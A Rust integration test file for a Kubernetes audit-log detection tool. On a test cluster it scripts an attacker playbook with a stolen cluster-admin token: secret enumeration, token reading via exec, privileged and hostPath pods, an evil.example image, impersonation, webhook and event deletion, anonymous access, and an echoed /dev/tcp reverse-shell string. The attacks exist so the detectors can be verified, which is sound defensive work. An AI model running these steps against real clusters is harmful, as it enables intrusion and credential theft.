//! The detections against the real API server's own audit log: what each is about, done with kubectl, is found; a phase of
//! ordinary life is not called anything worse than low.

use std::io::{BufRead, BufReader, Read, Seek, SeekFrom, Write};
use std::path::PathBuf;
use std::process::{Command, Output, Stdio};

use quell::audit::detect::{Blindness, Detectors, Finding, Report, Severity};
use quell::audit::event::Origin;
use quell::audit::parse_event;
use serde_json::{Value, json};

use crate::support::{Namespace, apply, cluster, eventually, kubectl, script};

/// Where the audit log ends now.
fn log_end() -> u64 {
    std::fs::metadata(cluster().audit_log()).unwrap().len()
}

/// What the detections make of the log from there on. A last line without its end is still being written.
fn report(from: u64) -> Report {
    let mut file = std::fs::File::open(cluster().audit_log()).unwrap();
    file.seek(SeekFrom::Start(from)).unwrap();
    let mut text = String::new();
    file.read_to_string(&mut text).unwrap();
    let detectors = Detectors::all();
    let mut gathered = detectors.gather();
    let mut offset = from;
    for line in text.split_inclusive('\n').filter(|l| l.ends_with('\n')) {
        let len = u32::try_from(line.len() - 1).unwrap();
        let event = parse_event(line.trim_end(), Origin { file: 0, offset, len }).unwrap();
        detectors.map(&event, &mut gathered);
        offset += line.len() as u64;
    }
    detectors.reduce(gathered)
}

/// A kubeconfig of the administrator's server with a token.
struct Thief {
    kubeconfig: tempfile::NamedTempFile,
    server: String,
    token: String,
    namespace: String,
}

impl Thief {
    fn new(namespace: &str, account: &str, pod: Option<&str>) -> Thief {
        let mut ask = vec!["-n", namespace, "create", "token", account];
        if let Some(pod) = pod {
            ask.extend(["--bound-object-kind", "Pod", "--bound-object-name", pod]);
        }
        let token = kubectl(&ask).trim().to_owned();
        let mut config: Value = serde_json::from_str(&kubectl(&["config", "view", "--raw", "-o", "json"])).unwrap();
        for user in config["users"].as_array_mut().unwrap() {
            user["user"] = json!({"token": token});
        }
        let server = config["clusters"][0]["cluster"]["server"].as_str().unwrap().to_owned();
        let mut kubeconfig = tempfile::NamedTempFile::new().unwrap();
        kubeconfig.write_all(config.to_string().as_bytes()).unwrap();
        Thief { kubeconfig, server, token, namespace: namespace.to_owned() }
    }

    fn command(&self, arguments: &[&str]) -> Command {
        let mut command = Command::new("kubectl");
        command
            .arg("--kubeconfig")
            .arg(self.kubeconfig.path())
            .args(["-n", &self.namespace])
            .args(arguments)
            .stdin(Stdio::null());
        command
    }

    /// Whatever comes of it.
    fn tries(&self, arguments: &[&str]) -> Output {
        self.command(arguments).output().unwrap()
    }

    fn does(&self, arguments: &[&str]) {
        let output = self.tries(arguments);
        assert!(output.status.success(), "kubectl {arguments:?}: {}", String::from_utf8_lossy(&output.stderr));
    }

    fn applies(&self, object: &Value) {
        let namespace = object["metadata"]["namespace"].as_str().unwrap_or(&self.namespace);
        let mut command = self.command(&["-n", namespace, "create", "-f", "-"]);
        let mut child = command.stdin(Stdio::piped()).stdout(Stdio::null()).stderr(Stdio::piped()).spawn().unwrap();
        child.stdin.take().unwrap().write_all(object.to_string().as_bytes()).unwrap();
        let output = child.wait_with_output().unwrap();
        assert!(output.status.success(), "{object}: {}", String::from_utf8_lossy(&output.stderr));
    }

    fn curl(&self, path: &str, with_token: bool) {
        let mut command = Command::new("curl");
        command.args(["-sk", "-o", "/dev/null", &format!("{}{path}", self.server)]);
        if with_token {
            command.args(["-H", &format!("Authorization: Bearer {}", self.token)]);
        }
        assert!(command.status().unwrap().success());
    }
}

/// A pod that no node takes.
fn pod(namespace: &str, name: &str, mut spec: Value) -> Value {
    spec["nodeSelector"] = json!({"nobody": "here"});
    if spec.get("containers").is_none() {
        spec["containers"] = json!([{"name": "c", "image": "quell.test/busybox:1"}]);
    }
    json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": namespace}, "spec": spec})
}

fn certificate_request() -> Value {
    let folder = tempfile::tempdir().unwrap();
    let key = folder.path().join("key");
    let output = Command::new("openssl")
        .args(["req", "-new", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=eve", "-keyout"])
        .arg(&key)
        .output()
        .unwrap();
    assert!(output.status.success());
    let mut encode = Command::new("base64").arg("-w0").stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().unwrap();
    encode.stdin.take().unwrap().write_all(&output.stdout).unwrap();
    let request = String::from_utf8(encode.wait_with_output().unwrap().stdout).unwrap();
    json!({
        "apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest", "metadata": {"name": "det-eve"},
        "spec": {"request": request, "signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]},
    })
}

/// Takes away what lies outside the namespace.
struct Outside;

impl Drop for Outside {
    fn drop(&mut self) {
        for (kind, name) in [
            ("clusterrolebinding", "det-taken"),
            ("clusterrolebinding", "det-eve"),
            ("clusterrolebinding", "det-everybody"),
            ("csr", "det-eve"),
            ("validatingwebhookconfiguration", "det-guard"),
        ] {
            kubectl(&["delete", kind, name, "--ignore-not-found"]);
        }
        for (kind, name) in [("pod", "det-system"), ("configmap", "coredns"), ("configmap", "aws-auth")] {
            kubectl(&["-n", "kube-system", "delete", kind, name, "--ignore-not-found", "--wait=false"]);
        }
        for node in kubectl(&["get", "nodes", "-o", "name"]).lines() {
            kubectl(&["label", node, "node-role.kubernetes.io/det-"]);
        }
    }
}

#[test]
#[ignore = "needs the real cluster to itself (tests/cluster/README.md)"]
fn alone_what_each_detection_is_about_is_found_in_the_real_log() {
    let ns = Namespace::with_targets("det-attacks");
    let name = ns.name.as_str();
    let _outside = Outside;
    for account in ["taken", "poor"] {
        kubectl(&["-n", name, "create", "serviceaccount", account]);
    }
    kubectl(&[
        "create",
        "clusterrolebinding",
        "det-taken",
        "--clusterrole=cluster-admin",
        &format!("--serviceaccount={name}:taken"),
    ]);
    for n in 0..3 {
        kubectl(&["-n", name, "create", "secret", "generic", &format!("s{n}"), "--from-literal=a=b"]);
    }
    let policy = |policy: &str| json!({"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy", "metadata": {"name": policy, "namespace": name}, "spec": {"podSelector": {"matchLabels": {"none": "such"}}}});
    let claim = |n: usize| json!({"apiVersion": "v1", "kind": "PersistentVolumeClaim", "metadata": {"name": format!("v{n}"), "namespace": name}, "spec": {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "1Mi"}}}});
    let guard = json!({
        "apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingWebhookConfiguration", "metadata": {"name": "det-guard"}, "webhooks": [],
    });
    let mut objects = vec![policy("deny"), policy("quell-quarantine-x"), guard];
    objects.extend((0..8).map(claim));
    objects.push(json!({
        "apiVersion": "v1", "kind": "Pod", "metadata": {"name": "agent", "namespace": name},
        "spec": {"serviceAccountName": "taken", "terminationGracePeriodSeconds": 1,
                 "containers": [{"name": "agent", "image": "quell.test/busybox:1", "command": ["probe", "sleep"]}]},
    }));
    apply(json!({"apiVersion": "v1", "kind": "List", "items": objects}).to_string().as_bytes());
    kubectl(&["-n", name, "wait", "--for=condition=Ready", "pod/agent", "--timeout=60s"]);
    let node = ns.get("pod", "agent").unwrap()["spec"]["nodeName"].as_str().unwrap().to_owned();
    let nodes = kubectl(&["get", "nodes", "-o", "name"]);
    let other = nodes.lines().map(|n| n.trim_start_matches("node/").to_owned()).find(|n| *n != node).unwrap();
    let from = log_end();
    // A node is known by what its kubelet asks: without a pod of its own it may be silent for minutes.
    let beside = json!({
        "apiVersion": "v1", "kind": "Pod", "metadata": {"name": "beside", "namespace": name},
        "spec": {"nodeName": other, "terminationGracePeriodSeconds": 1,
                 "containers": [{"name": "c", "image": "quell.test/busybox:1", "command": ["probe", "sleep"]}]},
    });
    apply(beside.to_string().as_bytes());
    kubectl(&["-n", name, "wait", "--for=condition=Ready", "pod/beside", "--timeout=60s"]);

    let eve = Thief::new(name, "taken", Some("agent"));
    let poor = Thief::new(name, "poor", None);
    eve.does(&["get", "secrets", "-A"]);
    eve.does(&["get", "secrets", "-n", "kube-system"]);
    (0..3).for_each(|n| eve.does(&["get", "secret", &format!("s{n}")]));
    eve.curl(&format!("/api/v1/namespaces/{name}/secrets/s1"), true);
    eve.does(&["exec", "agent", "--", "ls", "/"]);
    eve.does(&["exec", "agent", "--", "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"]);
    eve.does(&["exec", "agent", "--", "sh", "-c", "echo would open /dev/tcp/203.0.113.1/4444"]);
    eve.does(&["exec", "agent", "--", "sh", "-c", "tar cf - /etc | wc -c"]);
    let mut forward = eve.command(&["port-forward", "pod/bare", ":9090"]).stdout(Stdio::piped()).spawn().unwrap();
    let mut said = String::new();
    BufReader::new(forward.stdout.take().unwrap()).read_line(&mut said).unwrap();
    assert!(said.contains("Forwarding"), "{said}");
    forward.kill().unwrap();
    forward.wait().unwrap();
    eve.does(&["debug", "agent", "--image=quell.test/busybox:1", "--", "probe", "sleep"]);
    eve.does(&["create", "token", "default", "-n", "kube-system"]);
    eve.applies(&json!({
        "apiVersion": "v1", "kind": "Secret", "type": "kubernetes.io/service-account-token",
        "metadata": {"name": "forever", "annotations": {"kubernetes.io/service-account.name": "taken"}},
    }));
    eve.does(&["get", "--raw", &format!("/api/v1/nodes/{node}/proxy/pods")]);
    let distroless = ns.pod("app=distroless");
    eve.does(&["get", "--raw", &format!("/api/v1/namespaces/{name}/pods/{distroless}:8080/proxy/")]);
    eve.does(&["create", "clusterrolebinding", "det-eve", "--clusterrole=cluster-admin", "--user=eve"]);
    eve.applies(&pod(
        name,
        "root",
        json!({"containers": [{"name": "c", "image": "x", "securityContext": {"privileged": true}}]}),
    ));
    eve.applies(&pod(name, "host", json!({"hostPID": true})));
    eve.applies(&pod(name, "disk", json!({"volumes": [{"name": "h", "hostPath": {"path": "/"}}]})));
    eve.applies(&pod(
        "kube-system",
        "det-system",
        json!({"containers": [{"name": "c", "image": "evil.example/x:latest"}]}),
    ));
    eve.applies(&json!({
        "apiVersion": "apps/v1", "kind": "DaemonSet", "metadata": {"name": "everywhere"},
        "spec": {"selector": {"matchLabels": {"a": "b"}}, "template": {"metadata": {"labels": {"a": "b"}}, "spec": {"nodeSelector": {"nobody": "here"}, "containers": [{"name": "c", "image": "x"}]}}},
    }));
    eve.does(&[
        "patch",
        "deployment",
        "distroless",
        "-p",
        r#"{"spec":{"template":{"spec":{"containers":[{"name":"server","args":["implant","again"]}]}}}}"#,
    ]);
    eve.does(&["create", "role", "all", "--verb=*", "--resource=*.*"]);
    eve.does(&["get", "nodes", "--as=eve", "--as-group=system:masters"]);
    eve.applies(&certificate_request());
    eve.does(&["delete", "validatingwebhookconfiguration", "det-guard"]);
    eve.does(&["create", "clusterrolebinding", "det-everybody", "--clusterrole=view", "--user=system:anonymous"]);
    eventually("the binding is in force", 10, || {
        eve.curl(&format!("/api/v1/namespaces/{name}/pods"), false);
        report(from).findings.iter().any(|f| f.id == "anonymous-allowed")
    });
    eve.does(&["auth", "can-i", "--list"]);
    (0..9).for_each(|n| {
        poor.tries(&["get", "configmap", &format!("c{n}")]);
    });
    eve.does(&["delete", "--raw", &format!("/api/v1/namespaces/{name}/events")]);
    eve.does(&["create", "configmap", "coredns", "-n", "kube-system", "--from-literal=Corefile=x"]);
    eve.does(&["create", "configmap", "aws-auth", "-n", "kube-system", "--from-literal=mapRoles=x"]);
    eve.does(&["delete", "networkpolicy", "deny", "quell-quarantine-x"]);
    eve.applies(&json!({"apiVersion": "v1", "kind": "Service", "metadata": {"name": "ext"}, "spec": {"ports": [{"port": 80}], "externalIPs": ["198.51.100.1"]}}));
    eve.does(&["delete", "pvc", "--all", "--wait=false"]);
    eve.does(&["label", "node", &node, "node-role.kubernetes.io/det="]);
    // The token of a pod on one node, used from the other.
    let number = other.rsplit('-').next().unwrap().to_owned();
    let copy = PathBuf::from("/tmp").join(format!("det-{}.kubeconfig", std::process::id()));
    std::fs::copy(eve.kubeconfig.path(), &copy).unwrap();
    script(&["node", &number, "kubectl", "--kubeconfig", copy.to_str().unwrap(), "-n", name, "get", "pods"]);
    std::fs::remove_file(&copy).unwrap();

    let wanted = [
        "secrets-listed-everywhere",
        "secrets-listed-elsewhere",
        "secrets-read-in-a-row",
        "secret-read-by-script",
        "exec-in-pod",
        "exec-for-credentials",
        "exec-reverse-shell",
        "exec-copies-files",
        "port-forward",
        "ephemeral-container",
        "node-proxy",
        "pod-proxy",
        "privileged-container",
        "host-namespaces",
        "host-path",
        "workload-in-system-namespace",
        "workload-by-account",
        "workload-changed",
        "binding-to-power",
        "role-of-power",
        "rbac-by-account",
        "binding-then-workload",
        "impersonation",
        "certificate-requested",
        "admission-changed",
        "enumeration",
        "evidence-removed",
        "dns-changed",
        "auth-config-changed",
        "guard-relaxed",
        "exposed-to-outside",
        "mass-delete",
        "node-changed",
        "token-used-elsewhere",
        "image-new",
        "quarantine-touched",
        "token-requested",
    ];
    let user = format!("system:serviceaccount:{name}:taken");
    let missing = |report: &Report| -> Vec<&str> {
        let has = |id: &&str| {
            report.findings.iter().any(|f| f.id == **id && f.subject.user == user && f.severity > Severity::Low)
        };
        wanted.iter().copied().filter(|id| !has(id)).collect()
    };
    eventually("the log has it all", 20, || {
        let missing = missing(&report(from));
        if !missing.is_empty() {
            eprintln!("not yet: {missing:?}");
        }
        missing.is_empty()
    });
    let report = report(from);
    let of = |id: &str, user: &str| -> Option<&Finding> {
        report.findings.iter().find(|f| f.id == id && f.subject.user == user)
    };
    assert!(of("anonymous-allowed", "system:anonymous").is_some());
    assert!(of("denied-burst", &format!("system:serviceaccount:{name}:poor")).is_some_and(|f| f.denied >= 9));
    // The test's policy writes no bodies of Secrets: what type they have can't be known, and that is said.
    assert!(of("token-secret-created", &user).is_none());
    assert!(
        report.unknowable.iter().any(|u| u.id == "token-secret-created" && u.blind == Blindness::Wholly),
        "{:?}",
        report.unknowable
    );
    assert!(of("exec-reverse-shell", &user).unwrap().sentence.contains("/dev/tcp/203.0.113.1"));
    // The token is followed from who asked for it to where it was used.
    let session =
        report.sessions.iter().find(|s| s.pod.as_ref().is_some_and(|p| p.name == "agent") && s.user == user).unwrap();
    assert!(session.issued.is_some() && session.addresses.len() > 1 && !session.remarks.is_empty(), "{session:#?}");
}

#[test]
#[ignore = "needs the real cluster to itself (tests/cluster/README.md)"]
fn alone_ordinary_life_is_quiet_in_the_real_log() {
    kubectl(&["delete", "namespace", "det-quiet", "--ignore-not-found", "--wait=true"]);
    let from = log_end();
    let ns = Namespace { name: "det-quiet".into() };
    script(&["targets", &ns.name]);
    let name = ns.name.as_str();
    let rollout = |deployment: &str| kubectl(&["-n", name, "rollout", "status", deployment, "--timeout=60s"]);
    let objects = json!({"apiVersion": "v1", "kind": "List", "items": [
        {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "settings", "namespace": name}, "data": {"a": "b"}},
        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": {"name": "reader", "namespace": name},
         "rules": [{"apiGroups": [""], "resources": ["configmaps"], "verbs": ["get"]}]},
        {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding", "metadata": {"name": "reader", "namespace": name},
         "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": "reader"}, "subjects": [{"kind": "ServiceAccount", "name": "web", "namespace": name}]},
        {"apiVersion": "v1", "kind": "Service", "metadata": {"name": "front", "namespace": name}, "spec": {"type": "NodePort", "ports": [{"port": 80}], "selector": {"app": "web"}}},
        {"apiVersion": "networking.k8s.io/v1", "kind": "Ingress", "metadata": {"name": "front", "namespace": name},
         "spec": {"defaultBackend": {"service": {"name": "front", "port": {"number": 80}}}}},
        {"apiVersion": "batch/v1", "kind": "CronJob", "metadata": {"name": "nightly", "namespace": name},
         "spec": {"schedule": "0 3 * * *", "jobTemplate": {"spec": {"template": {"spec": {"restartPolicy": "Never", "containers": [{"name": "c", "image": "quell.test/busybox:1"}]}}}}}},
    ]});
    for _ in 0..2 {
        apply(objects.to_string().as_bytes());
    }
    kubectl(&["-n", name, "set", "env", "deployment/web", "RELEASE=2"]);
    rollout("deployment/web");
    kubectl(&["-n", name, "scale", "deployment/web", "--replicas=4"]);
    rollout("deployment/web");
    kubectl(&["-n", name, "rollout", "restart", "deployment/web"]);
    rollout("deployment/web");
    kubectl(&["-n", name, "scale", "deployment/web", "--replicas=1"]);
    let node = kubectl(&["get", "nodes", "-o", "name"]).lines().last().unwrap().trim_start_matches("node/").to_owned();
    kubectl(&[
        "drain",
        &node,
        "--ignore-daemonsets",
        "--delete-emptydir-data",
        "--force",
        "--timeout=90s",
        "--pod-selector=app,app notin (bare,client,many)",
    ]);
    kubectl(&["uncordon", &node]);
    rollout("deployment/web");
    for kind in ["pods", "deployments", "services", "nodes", "events", "configmaps"] {
        kubectl(&["get", kind, "-A"]);
    }
    kubectl(&["-n", name, "logs", "bare"]);
    kubectl(&["-n", name, "describe", "pod", "bare"]);
    kubectl(&["auth", "can-i", "get", "pods"]);
    kubectl(&["-n", name, "create", "job", "--from=cronjob/nightly", "now"]);
    kubectl(&["-n", name, "delete", "pod", &ns.pod("app=web")]);
    kubectl(&["-n", name, "delete", "cronjob", "nightly"]);
    kubectl(&["delete", "namespace", name, "--wait=true"]);
    let found = report(from);
    let loud: Vec<&Finding> = found.findings.iter().filter(|f| f.severity > Severity::Low).collect();
    assert!(loud.is_empty(), "{:#?}", loud.iter().map(|f| (&f.id, &f.sentence)).collect::<Vec<_>>());
    let requests: u64 = found.sessions.iter().map(|s| s.requests).sum();
    assert!(requests > 200, "the log was read: {requests}");
}
